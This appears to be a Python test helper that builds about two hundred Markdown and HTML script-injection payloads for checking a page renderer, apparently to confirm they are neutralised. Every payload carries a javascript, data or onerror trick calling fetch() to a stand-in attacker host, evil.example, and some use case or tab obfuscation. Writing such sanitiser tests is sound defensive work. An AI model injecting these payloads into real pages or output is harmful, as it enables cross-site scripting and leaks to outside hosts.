"""Two hundred ways to make a page do what it should not, all aimed at a host that must not hear."""

from itertools import product
from pathlib import Path

from tests.tables import tables_beside

EVIL = "https://evil.example"
_SCRIPTS: tuple[str, ...] = tuple(tables_beside(Path(__file__))["scripts"])
_MARKDOWN = (
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java\tscript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:{js})",
    "[x]({url})",
    "[x](//evil.example)",
    "[x](#source-99)",
    "<{url}>",
    "<javascript:{js}>",
    "[x]({url} \"' onmouseover={js} '\")",
    "`<img src=x onerror={js}>`",
)
_WRAPPERS = ("{}", "> {}", "- {}", "| a |\n|---|\n| {} |", "**{}**")


def payloads() -> list[str]:
    """Return each trick plain and inside what Markdown may put around it."""
    js = "document.title=1,fetch('" + EVIL + "')"
    tricks = [trick.format(js=js, url=EVIL) for trick in (*_SCRIPTS, *_MARKDOWN)]
    return [wrapper.format(trick) for trick, wrapper in product(tricks, _WRAPPERS)]
